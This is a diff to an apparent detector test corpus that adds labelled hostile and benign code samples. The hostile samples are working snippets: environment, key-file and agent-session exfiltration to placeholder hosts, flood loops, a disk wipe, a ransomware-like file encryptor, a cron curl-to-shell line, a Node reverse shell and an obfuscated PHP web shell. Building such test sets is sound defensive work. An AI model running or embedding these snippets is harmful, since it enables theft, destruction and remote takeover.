@@ -256,6 +256,45 @@ HOSTILE = {
         "conn, _ := net.Dial(\"udp\", target)\nbuf := make([]byte, 1400)\nfor { conn.Write(buf) }", "exhausts"),
     "a packet tool told to loop": (
         "pkt = IP(dst='203.0.113.15') / TCP(dport=443, flags='S')\nsend(pkt, loop=1, inter=0)", "floods"),
+    # session 41: classes of blind set 12's misses (looked at after its first look), written again here
+    "the environment read by a method and sent through self": (
+        "class T:\n    def _ctx(self):\n        return dict(os.environ)\n\n    def boot(self):\n"
+        "        requests.post('https://t.example.org/c', json=self._ctx())", "environment"),
+    "a payload of the user's name and the agent's sessions": (
+        "payload = {'u': os.getlogin(), 'log': open(os.path.expanduser('~/.codex/sessions/last.jsonl')).read()}\n"
+        "requests.post('https://t.example.org/c', json=payload)", "the agent's memory"),
+    "a Ruby module method sending the environment": (
+        "module Probe\n  def self.collect\n    { env: ENV.to_h }\n  end\n\n  def self.ship!\n"
+        "    Net::HTTP.post(URI('https://t.example.org/r'), collect.to_json)\n  end\nend", "environment"),
+    "an Electron screen capture posted": (
+        "const [screen] = await desktopCapturer.getSources({ types: ['screen'] });\n"
+        "await fetch('https://t.example.org/h', { method: 'POST', body: screen.thumbnail.toDataURL() });", "screen"),
+    "a key file written to a raw Go connection": (
+        "c, _ := net.Dial(\"tcp\", \"198.51.100.9:9000\")\nb, _ := os.ReadFile(filepath.Join(home, \".netrc\"))\n"
+        "c.Write(b)", "key files"),
+    "a flood that reads its answers": (
+        "URL = 'https://shop.example.com/search'\nasync def hit(s):\n    while True:\n"
+        "        async with s.get(URL) as r:\n            await r.read()", "floods"),
+    "a UDP flood cycling through ports": (
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "for port in itertools.cycle(range(1, 65535)):\n    s.sendto(pkt, ('203.0.113.77', port))", "floods"),
+    "the home folder as a fallback removed": (
+        "const scratch = process.env.SCRATCH || os.homedir();\nfs.rmSync(scratch, { recursive: true, force: true });",
+        "home or system"),
+    "a system disk overwritten with zeros": (
+        "sudo dd if=/dev/zero of=/dev/nvme0n1 bs=1M status=progress", "wipes a disk"),
+    "a watcher encrypting what the user saves": (
+        "_k = Fernet(Fernet.generate_key())\nclass Guard(FileSystemEventHandler):\n    def on_modified(self, e):\n"
+        "        data = open(e.src_path, 'rb').read()\n        open(e.src_path + '.x', 'wb').write(_k.encrypt(data))\n"
+        "        os.remove(e.src_path)\nobs = Observer()\n"
+        "obs.schedule(Guard(), os.path.expanduser('~/Documents'), recursive=True)\nobs.start()", "encrypts"),
+    "a cron line fetching and running a script, built by a helper": (
+        "def _line():\n    return f\"*/5 * * * * curl -fsSL {SRC} | sh >/dev/null 2>&1\\n\"", "schedule"),
+    "a Node shell piped to a socket": (
+        "const sock = net.connect(7443, '203.0.113.66', () => {\n  const sh = spawn('/bin/sh', []);\n"
+        "  sock.pipe(sh.stdin); sh.stdout.pipe(sock);\n});", "reverse shell"),
+    "a PHP variable function given a request parameter": (
+        "<?php $f = base64_decode('c3lzdGVt'); $f($_GET['c']); ?>", "web requests"),
 }
 
 
@@ -415,6 +454,15 @@ BENIGN = {
     "core files found and removed across the system": ("find / -xdev -type f -name core -delete"),
     "a Go worker loop reading a channel": ("for {\n\tmsg := <-jobs\n\tgo handle(msg)\n}"),
     "build objects found and removed": ("find ~/project/build -name '*.o' -delete"),
+    # session 41: blind set 12's classes, the benign side
+    "a server loop accepting connections": (
+        "while True:\n    conn, addr = srv.accept()\n    threading.Thread(target=serve, args=(conn,)).start()"),
+    "a disk image made with dd": ("dd if=/dev/zero of=disk.img bs=1M count=512"),
+    "a connection sent a fixed greeting": (
+        "s = socket.create_connection(('203.0.113.5', 25))\ns.send(b'EHLO example.org\\r\\n')"),
+    "a poller that sleeps between requests": (
+        "while True:\n    r = requests.get('https://status.example.com/api')\n    r.raise_for_status()\n"
+        "    time.sleep(30)"),
 }
 
 
